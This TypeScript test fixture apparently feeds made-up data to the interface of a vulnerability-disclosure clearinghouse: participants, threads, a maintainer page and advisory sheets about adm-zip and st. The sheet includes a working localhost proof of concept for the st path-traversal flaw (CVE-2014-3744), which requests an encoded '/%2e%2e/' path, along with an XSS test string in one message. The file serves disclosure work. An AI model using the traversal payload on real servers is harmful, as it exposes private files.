/** A made-up room of a case: many participants, threads, and the maintainer's page. */
import type {
  LinkDeskView,
  MaintainerPageView,
  MaintainerTrials,
  MessageView,
  ParticipantView,
  ProbeConsentView,
  RoomView,
  SheetView,
  ThreadPage,
  ThreadView,
  WordList,
} from '../../src/apps/server/views/index.ts';
import { ago, COORDINATOR, NOW, party } from './fixture-rows.ts';

const DESK = { id: 'p-desk', name: 'Clearinghouse desk', role: 'coordinator' } as const;
const UPSTREAM = { id: 'u-link', name: 'maintainer, by private link', machine: false };

/** 121 as a real case had: most have spoken, some are silent for a month and more. */
export function manyParticipants(count: number): ParticipantView[] {
  const states = [
    'fixed',
    'affected',
    'fixing',
    'not_affected',
    'not_affected',
    'looking',
    'disputed',
  ] as const;
  return Array.from({ length: count }, (_, index): ParticipantView => {
    const isSilent = index % 9 < 2;
    const days = isSilent ? 4 + ((index * 7) % 48) : index % 3;
    const status = isSilent
      ? index % 2 === 0
        ? 'invited'
        : 'acknowledged'
      : (states[index % states.length] ?? 'looking');
    return {
      party: {
        id: `p-v${index}`,
        name:
          index === 4 ? '<b>Vendor</b> & sons, of a document portal with a long name' : `Vendor ${index + 1}`,
        kind: 'maintainer',
        sector: null,
      },
      role: index === 0 ? 'maintainer' : index % 20 === 19 ? 'operator' : 'vendor',
      status,
      statusAt: ago(days * 24 + 1),
      lastWordAt: status === 'invited' ? null : ago(days * 24 + 1),
      fixedVersion: status === 'fixed' ? '0.4.9' : null,
      asked: isSilent ? index % 4 : 0,
      askedAt: isSilent ? ago(24) : null,
    };
  });
}

function thread(
  audience: ThreadView['audience'],
  readers: ThreadView['readers'],
  messages: number,
): ThreadView {
  return {
    id: `t-${audience}`,
    audience,
    subject: 'adm-zip, writing outside its folder',
    openedAt: ago(200),
    messages,
    lastAt: messages === 0 ? null : ago(1),
    readers,
  };
}

const THREADS: readonly ThreadView[] = [
  thread('desk', [DESK], 2),
  thread('maintainer', [DESK, { id: 'p-m', name: 'maintainer of adm-zip', role: 'maintainer' }], 3),
  thread(
    'participants',
    [DESK, ...manyParticipants(121).map(({ party: { id, name }, role }) => ({ id, name, role }))],
    212,
  ),
];

export function room(): RoomView {
  return { threads: [...THREADS], finders: [{ id: party(0).id, name: party(0).name }] };
}

export function threadList(): ThreadView[] {
  return THREADS.filter(({ audience }) => audience !== 'desk');
}

function message(seq: number): MessageView {
  const isDesk = seq % 2 === 0;
  return {
    seq,
    at: ago(30 - (seq % 30)),
    by: isDesk ? COORDINATOR : UPSTREAM,
    party: isDesk ? 'Clearinghouse desk' : 'maintainer of adm-zip',
    text: isDesk
      ? 'Put to all parties. If it is refused we publish on Monday with the note, and the option follows.'
      : 'p3 is what I want to ship. Two downstreams extract with absolute names on purpose.\n\n<script>alert(1)</script> stays text, and a_word_without_an_end_'.concat(
          'x'.repeat(90),
        ),
  };
}

export function threadPage(id: string, before: number | null, limit = 50): ThreadPage {
  const found = THREADS.find((each) => each.id === id) ?? (THREADS[0] as ThreadView);
  const last = before === null ? found.messages : before - 1;
  const first = Math.max(1, last - limit + 1);
  return {
    thread: found,
    messages: Array.from({ length: last - first + 1 }, (_, n) => message(first + n)),
    before: first > 1 ? first : null,
    takesPart: found.audience === 'participants',
  };
}

export function words(): WordList {
  return {
    items: [
      {
        id: 'w-2',
        at: ago(24),
        by: COORDINATOR,
        kind: 'asked',
        status: null,
        channel: 'telephone',
        fixedVersion: null,
        note: 'Second contact from security.txt, no answer.',
      },
      {
        id: 'w-1',
        at: ago(34 * 24),
        by: { id: 'u-v', name: 'vendor key', machine: true },
        kind: 'status',
        status: 'acknowledged',
        channel: null,
        fixedVersion: null,
        note: null,
      },
    ],
  };
}

const DIFF = [
  '--- a/st.js',
  '+++ b/st.js',
  '@@ -157,6 +157,5 @@',
  ' Mount.prototype.getPath = function (u) {',
  '-  u = path.normalize(url.parse(u).pathname)',
  '-  if (u.indexOf(this.url) !== 0) return false',
  '   try {',
  '-    u = decodeURIComponent(u)',
  '+    u = decodeURIComponent(url.parse(u).pathname)',
  '+    u = path.normalize(u)',
  '   }',
  ' ',
].join('\n');

export function sheet(): SheetView {
  return {
    title: 'st: encoded dots leave the served folder',
    impact:
      'Anyone who can send a request can read any file the server may read, unless a part of its path begins with a dot. They cannot change files or list folders.',
    component: { name: 'st', version: '0.2.4', commit: null },
    environment: 'npm',
    affected: ['vers:npm/<0.2.5'],
    fixed: ['0.2.5'],
    aliases: ['CVE-2014-3744'],
    weaknesses: ['CWE-22'],
    where: ['st.js:158–176 Mount.prototype.getPath'],
    seen: {
      at: ago(30),
      assurance: 'observed',
      runs: [
        { role: 'vulnerable', triggered: 3, of: 3 },
        { role: 'inert', triggered: 0, of: 3 },
        { role: 'fixed', triggered: 0, of: 3 },
      ],
    },
    reports: 4,
    finders: null,
    ai: { assisted: 3, notAssisted: 1, reviewed: 1, models: ['vendor/model'] },
    reproducer: {
      files: [
        {
          path: 'poc.js',
          text: "'use strict';\nconst fs = require('fs');\nconst http = require('http');\nconst st = require('st');\nfs.mkdirSync('public', { recursive: true });\nfs.writeFileSync('secret.txt', 'breakwater-marker');\nconst mount = st({ path: 'public', url: '/', cache: false });\nconst server = http.createServer((q, s) => {\n  if (!mount(q, s)) { s.statusCode = 404; s.end(); }\n});\nserver.listen(0, '127.0.0.1', () => {\n  http.get({ host: '127.0.0.1', port: server.address().port, path: '/%2e%2e/secret.txt' }, (r) => {\n    r.pipe(process.stdout);\n    r.on('end', () => process.exit(0));\n  });\n});\n",
        },
        { path: 'public/index.txt', text: 'public file\n' },
      ],
      withheld: [],
      prepare: 'npm install --ignore-scripts st@0.2.4',
      run: 'node poc.js',
      effect: 'a secret planted above the served folder is read',
      marker: 'breakwater-marker',
    },
    patch: {
      verdict: 'fixes',
      tests: 'passed',
      diff: DIFF,
      mail: `From 0\nSubject: [PATCH] st\n\n---\n${DIFF}`,
      fileName: '0001-st-encoded-dots-leave-the-served-folder.patch',
      command: 'git am 0001-st-encoded-dots-leave-the-served-folder.patch',
    },
    contact: 'desk@clearinghouse.example',
    publicOn: { at: ago(-27 * 24), asked: null },
  };
}

export function maintainerPage(): MaintainerPageView {
  return {
    sheet: sheet(),
    revision: 2,
    probes: { words: 'Until it is published, this flaw may be a task for models.', said: null },
    checkedBy: 'coordinator',
    checkedAt: ago(5),
    party: 'maintainer of st',
    expiresAt: ago(-30 * 24),
    clearinghouse: { name: 'Clearinghouse', phone: '555-0134' },
    said: { status: 'looking', at: ago(3), fixedVersion: null },
    messages: [1, 2, 3].map(message),
    tries: { releases: true },
    now: new Date(NOW).toISOString(),
  };
}

/** One that is known, one under way. */
export function maintainerTrials(): MaintainerTrials {
  const known = {
    id: 'tr-1',
    label: 'st.js',
    state: 'done',
    verdict: 'breaks_tests',
    tests: 'failed',
  } as const;
  const running = { id: 'tr-2', label: '0.2.5', state: 'running', verdict: null, tests: null } as const;
  return {
    items: [
      { ...running, askedAt: ago(0.01) },
      { ...known, askedAt: ago(2) },
    ],
  };
}

/** Nobody has said anything of probes. */
export function probeConsent(): ProbeConsentView {
  return {
    words: 'May a model be tested with this flaw before it is public?',
    given: false,
    by: null,
    at: null,
  };
}

export function linkDesk(): LinkDeskView {
  return {
    case: { id: 'c-1', number: 1, title: 'adm-zip writes outside its folder' },
    component: 'adm-zip',
    tlp: 'AMBER',
    maintainers: [{ id: 'p-m', name: 'maintainer of adm-zip', kind: 'maintainer', sector: null }],
    links: [
      {
        id: 'm-1',
        party: { id: 'p-m', name: 'maintainer of adm-zip' },
        state: 'open',
        createdAt: ago(50),
        expiresAt: ago(-20 * 24),
        endedAt: null,
        firstReadAt: ago(40),
        lastReadAt: ago(2),
      },
      {
        id: 'm-2',
        party: { id: 'p-m', name: 'maintainer of adm-zip' },
        state: 'ended',
        createdAt: ago(500),
        expiresAt: ago(-20),
        endedAt: ago(400),
        firstReadAt: null,
        lastReadAt: null,
      },
    ],
    written: { revision: 2, by: 'coordinator', at: ago(5), sheet: sheet() },
    claimed: 'The path of an entry is resolved and written without a look at where it lands.',
  };
}
